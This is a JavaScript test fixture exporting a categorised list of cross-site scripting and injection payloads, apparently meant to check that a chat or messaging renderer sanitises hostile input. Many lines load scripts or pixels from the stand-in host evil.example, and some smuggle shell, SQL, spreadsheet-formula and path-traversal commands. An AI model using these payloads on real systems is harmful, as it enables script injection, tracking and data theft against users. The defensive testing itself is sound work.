// What a hostile customer, agent, site or server may write, by kind. Each would act if it ran: set `window.hit`, open a dialog, call a host
// that is not ours, or leave the page. None may.

const raw = String.raw;

const SCRIPTS = [
  `<script>window.hit=1</script>`,
  `<SCRIPT SRC=//evil.example/a.js></SCRIPT>`,
  `<script type=module>import("https://evil.example/b.js")</script>`,
  `<scr<script>ipt>window.hit=1</scr</script>ipt>`,
  `</script><script>window.hit=1</script>`,
  `<script>/*`,
  `*/window.hit=1</script>`,
  `<script\x0c>window.hit=1</script>`,
  `<script/x>window.hit=1</script>`,
  `<script>window.hit=1`,
  `<script src=data:text/javascript,window.hit=1></script>`,
  `</title><script>window.hit=1</script>`,
  `</textarea><script>window.hit=1</script>`,
  `--><script>window.hit=1</script><!--`,
  `]]><script>window.hit=1</script>`,
  `<noscript><p title="</noscript><img src=x onerror=window.hit=1>">`,
];

const HANDLERS = [
  `<img src=x onerror=window.hit=1>`,
  `<img src=x onerror="alert(1)">`,
  `<IMG """><img src=x onerror=window.hit=1>">`,
  `<img/src=x/onerror=window.hit=1>`,
  `<img src=x:x onerror\n=\nwindow.hit=1>`,
  `<img src onerror=&#119;indow.hit=1>`,
  `<body onload=window.hit=1>`,
  `<video><source onerror=window.hit=1></video>`,
  `<video src=x onerror=window.hit=1></video>`,
  `<audio src=x onerror=window.hit=1>`,
  `<details open ontoggle=window.hit=1>x</details>`,
  `<input autofocus onfocus=window.hit=1>`,
  `<textarea autofocus onfocus=window.hit=1>`,
  `<select autofocus onfocus=window.hit=1>`,
  `<marquee onstart=window.hit=1>x</marquee>`,
  `<div style="animation:x 1s" onanimationstart=window.hit=1>`,
  `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=window.hit=1></p>`,
  `<p onpointerover=window.hit=1 style=position:fixed;inset:0>x</p>`,
  `<xss contenteditable autofocus tabindex=0 onfocus=window.hit=1>x</xss>`,
  `<button popovertarget=p>x</button><p popover id=p onbeforetoggle=window.hit=1>`,
  `<iframe src=javascript:parent.hit=1></iframe>`,
  `<iframe srcdoc="<script>parent.hit=1</script>"></iframe>`,
  `<object data=javascript:window.hit=1></object>`,
  `<embed src=https://evil.example/x.swf>`,
  `<form action=javascript:window.hit=1><button autofocus>x</button></form>`,
  `<form><button formaction=javascript:window.hit=1>x</button></form>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<base href=https://evil.example/>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<link rel=prefetch href=https://evil.example/p>`,
  `<frameset onload=window.hit=1>`,
  `<img src=https://evil.example/track.gif>`,
  `<img srcset="https://evil.example/2x.gif 2x">`,
  `<table background=https://evil.example/t.gif><tr><td>x</table>`,
];

const SVG = [
  `<svg onload=window.hit=1>`,
  `<svg/onload=window.hit=1//`,
  `<svg><script>window.hit=1</script></svg>`,
  `<svg><script href=https://evil.example/s.js /></svg>`,
  `<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>`,
  `<svg><set attributeName=onmouseover to=window.hit=1>`,
  `<svg><a xlink:href=javascript:window.hit=1><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>hit=1</script></svg>#x"/></svg>`,
  `<svg><foreignObject><img src=x onerror=window.hit=1></foreignObject></svg>`,
  `<svg><image href=https://evil.example/i.png /></svg>`,
  `<math><mtext><img src=x onerror=window.hit=1></mtext></math>`,
  `<math><maction actiontype=statusline xlink:href=javascript:window.hit=1>x</maction></math>`,
];

const LINKS = [
  `[x](javascript:window.hit=1)`,
  `[x](JaVaScRiPt:alert(1))`,
  `[x](java\tscript:window.hit=1)`,
  `[x](java&#10;script:window.hit=1)`,
  `[x](&#106;avascript:window.hit=1)`,
  `[x](\x01javascript:window.hit=1)`,
  `[x](<javascript:window.hit=1>)`,
  `[x](javascript&colon;window.hit=1)`,
  `[x](javascript://evil.example/%0awindow.hit=1)`,
  `[x](vbscript:window.hit=1)`,
  `[x](data:text/html,<script>window.hit=1</script>)`,
  `[x](data:text/html;base64,PHNjcmlwdD5oaXQ9MTwvc2NyaXB0Pg==)`,
  `[x](blob:https://evil.example/1)`,
  `[x](file:///etc/passwd)`,
  `[x](view-source:javascript:window.hit=1)`,
  `[x](//evil.example/relative)`,
  `[x](/logout)`,
  `[x](intent://evil.example#Intent;end)`,
  `[x](ms-msdt:/id)`,
  `[x](https://evil.example/"onmouseover="window.hit=1)`,
  `[x](https://evil.example 'y" onmouseover="window.hit=1')`,
  `![x](javascript:window.hit=1)`,
  `![x](https://evil.example/pixel.gif)`,
  `![x" onerror="window.hit=1](x)`,
  `![x](x"onerror="window.hit=1)`,
  `javascript:window.hit=1`,
  `data:text/html,<script>window.hit=1</script>`,
  `<javascript:window.hit=1>`,
  `<data:text/html,x>`,
  `https://evil.example/"onmouseover="window.hit=1"`,
  `https://evil.example/'><img src=x onerror=window.hit=1>`,
  `www.evil.example/"><script>window.hit=1</script>`,
  `<https://evil.example/"onclick=window.hit=1>`,
  `mailto:a@b.example"onfocus="window.hit=1`,
  `a"onclick="window.hit=1"@evil.example`,
];

const MARKDOWN = [
  `[a [b](javascript:window.hit=1) c](javascript:window.hit=1)`,
  `[![x](https://evil.example/a.png)](javascript:window.hit=1)`,
  `**[_x_](javascript:window.hit=1)**`,
  `[x][y]\n\n[y]: javascript:window.hit=1`,
  `[x]: javascript:window.hit=1 "t"\n[x]`,
  "`<img src=x onerror=window.hit=1>`",
  "```html\n<script>window.hit=1</script>\n```",
  '```"><img src=x onerror=window.hit=1>\nx\n```',
  `> <img src=x onerror=window.hit=1>`,
  `- <img src=x onerror=window.hit=1>`,
  `| a |\n| - |\n| <img src=x onerror=window.hit=1> |`,
  `# <script>window.hit=1</script>`,
  `- [ ] <input onfocus=window.hit=1 autofocus>`,
  `<div markdown=1>[x](javascript:window.hit=1)</div>`,
  `[x](https://evil.example/)<!--[y](javascript:window.hit=1)-->`,
  `\\<img src=x onerror=window.hit=1\\>`,
  raw`\[x\](javascript:window.hit=1)`,
  raw`\\[x](javascript:window.hit=1)`,
  `${"[".repeat(40)}x${"](javascript:window.hit=1)".repeat(40)}`,
  `<!-- <img src=x onerror=window.hit=1> -->`,
  `<?xml?><img src=x onerror=window.hit=1>`,
  `<![CDATA[<img src=x onerror=window.hit=1>]]>`,
];

const ENTITIES = [
  `&lt;img src=x onerror=window.hit=1&gt;`,
  `&#60;script&#62;window.hit=1&#60;/script&#62;`,
  `&#x3c;img src=x onerror=window.hit=1&#x3e;`,
  `&amp;lt;script&amp;gt;window.hit=1`,
  `%3Cscript%3Ewindow.hit=1%3C/script%3E`,
  raw`\u003cimg src=x onerror=window.hit=1\u003e`,
  raw`\x3cscript\x3ewindow.hit=1\x3c/script\x3e`,
  `+ADw-script+AD4-window.hit=1+ADw-/script+AD4-`,
  `¼script¾window.hit=1¼/script¾`,
  `＜script＞window.hit=1＜/script＞`,
];

const MUTATION = [
  `<svg></p><style><a id="</style><img src=1 onerror=window.hit=1>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hit=1&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.hit=1>`,
  `<noembed><img title="</noembed><img src onerror=window.hit=1>">`,
  `<listing>&lt;img src=x onerror=window.hit=1&gt;</listing>`,
  `<template><img src=x onerror=window.hit=1></template>`,
  `<div><template shadowrootmode=open><img src=x onerror=window.hit=1></template></div>`,
  `<xmp><p title="</xmp><img src=x onerror=window.hit=1>">`,
  `<svg><desc><![CDATA[</desc><script>window.hit=1</script>]]></svg>`,
  `<a><b><a><img src=x onerror=window.hit=1></a></b>`,
];

const CLOBBERING = [
  `<img name=currentScript src=x onerror=window.hit=1>`,
  `<form id=frontdoor><input name=open><img src=x onerror=window.hit=1></form>`,
  `<a id=frontdoor href=javascript:window.hit=1>x</a>`,
  `<img name=getElementById src=x onerror=window.hit=1>`,
  `<form name=body><img name=documentElement src=x onerror=window.hit=1></form>`,
  `<iframe name=adoptedStyleSheets src=javascript:parent.hit=1></iframe>`,
  `<p id=hit>x</p><script>window.hit=1</script>`,
];

const TEMPLATES = [
  `{{constructor.constructor('window.hit=1')()}}`,
  `{{$on.constructor('window.hit=1')()}}`,
  `{{company}}<img src=x onerror=window.hit=1>{{locale}}`,
  "${window.hit=1}",
  "${constructor.constructor('alert(1)')()}",
  `#{window.hit=1}`,
  `<%= window.hit=1 %>`,
  `{% import "os" %}{{7*7}}<img src=x onerror=window.hit=1>`,
  `[[\${window.hit=1}]]`,
  `{contact.phone}<script>window.hit=1</script>{name}`,
  `$&<img src=x onerror=window.hit=1>$'`,
];

const STYLES = [
  `<style>@import "https://evil.example/a.css";</style>`,
  `<p style="background:url(https://evil.example/b.gif)">x</p>`,
  `<p style="behavior:url(#x);width:expression(window.hit=1)">x</p>`,
  `red;background:url(https://evil.example/c.gif)`,
  `#fff;}*{background:url(https://evil.example/d.gif)}`,
  `</style><script>window.hit=1</script>`,
  `url(javascript:window.hit=1)`,
  `var(--x,url(https://evil.example/e.gif))`,
  raw`\72\65\64;background-image:url(https://evil.example/f.gif)`,
];

const BREAKING = [
  `"><img src=x onerror=window.hit=1>`,
  `'><img src=x onerror=window.hit=1>`,
  `" onmouseover="window.hit=1" x="`,
  `' autofocus onfocus='window.hit=1`,
  `" style="position:fixed;inset:0" onpointerover="window.hit=1`,
  `x" srcdoc="<script>parent.hit=1</script>`,
  "`-window.hit=1-`",
  `';window.hit=1;//`,
  `";window.hit=1;//`,
  `\\";window.hit=1;//`,
  `\r\nSet-Cookie: hit=1\r\n\r\n<script>window.hit=1</script>`,
  `\u2028window.hit=1\u2029<script>window.hit=1</script>`,
];

const LETTERS = [
  `\u202egpj.exe<img src=x onerror=window.hit=1>\u202c`,
  `\u2066<script>window.hit=1</script>\u2069`,
  `<\u200bscript>window.hit=1</\u200bscript>`,
  `java\u200bscript:window.hit=1`,
  `\ufeff<img src=x onerror=window.hit=1>`,
  `<ſcript>window.hit=1</ſcript>`,
  `<ımg src=x onerror=window.hit=1>`,
  `[https://аррle.com](https://evil.example/?window.hit=1)`,
  `[https://example.com](https://example.com@evil.example/)`,
  `https://еvil.example/<img src=x onerror=window.hit=1>`,
  `https://evil。example/"onclick=window.hit=1`,
  `<img src=x onerror=\u0000window.hit=1>`,
  `<scr\u0000ipt>window.hit=1</scr\u0000ipt>`,
  `\u0000"><svg onload=window.hit=1>`,
  `\u001b[31m<img src=x onerror=window.hit=1>\u0007`,
  `<img src=x onerror=window.hit=1 \ud800>`,
  `👩‍👩‍👧<svg onload=window.hit=1>`,
  `${"a\u0301".repeat(300)}<img src=x onerror=window.hit=1>`,
];

const NAMES = [
  `__proto__`,
  `{"__proto__":{"polluted":1}}`,
  `constructor.prototype.polluted=1`,
  `__proto__[polluted]=1<img src=x onerror=window.hit=1>`,
  `toString`,
  `[object Object]<svg onload=window.hit=1>`,
];

const POLYGLOTS = [
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=alert(1) )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/oNloAd=window.hit=1//>`,
  `'"-->]]>*/</script></style></title><svg onload=window.hit=1>`,
  `"onclick=window.hit=1//<button ' onclick=window.hit=1//> */ window.hit=1//`,
  `javascript:"/*'/*\`/*--></noscript></title></textarea></style></template></noembed></script><html " onmouseover=/*&lt;svg/*/onload=window.hit=1//>`,
  `GIF89a/*<svg/onload=window.hit=1>*/=window.hit=1;`,
  `%PDF-1.4 <script>window.hit=1</script>`,
];

/** What other readers of the same words would obey: a team's chat, a spreadsheet, a terminal, a database. */
const ELSEWHERE = [
  `<!channel> <img src=x onerror=window.hit=1>`,
  `<@U012AB3CD|x"onclick="window.hit=1>`,
  `<https://evil.example|bank>`,
  `=cmd|' /C calc'!A0<img src=x onerror=window.hit=1>`,
  `=HYPERLINK("https://evil.example/?"&A1,"x")`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `+1-1<svg onload=window.hit=1>`,
  `-2+3|javascript:window.hit=1`,
  `'; drop table messages; --<img src=x onerror=window.hit=1>`,
  "$(touch /tmp/hit)`id`<svg onload=window.hit=1>",
  `../../../../etc/passwd%00<img src=x onerror=window.hit=1>.png`,
  `%s%n%d<img src=x onerror=window.hit=1>`,
  `${"<b>".repeat(500)}<img src=x onerror=window.hit=1>`,
  `${"x".repeat(3_000)}<svg onload=window.hit=1>`,
];

export const PAYLOADS = {
  ...{ SCRIPTS, HANDLERS, SVG, LINKS, MARKDOWN, ENTITIES, MUTATION, CLOBBERING, TEMPLATES, STYLES, BREAKING, LETTERS },
  ...{ NAMES, POLYGLOTS, ELSEWHERE },
};

export const payloads = Object.values(PAYLOADS).flat();

/** As few texts as hold them all, each of at most `most` characters; what is longer alone is cut. */
export function packed(most, between = "\n") {
  const packs = [];
  let pack = "";
  for (const each of payloads.map((payload) => payload.slice(0, most))) {
    if (pack.length + between.length + each.length > most && pack !== "") {
      packs.push(pack);
      pack = "";
    }
    pack += (pack === "" ? "" : between) + each;
  }
  return [...packs, pack];
}
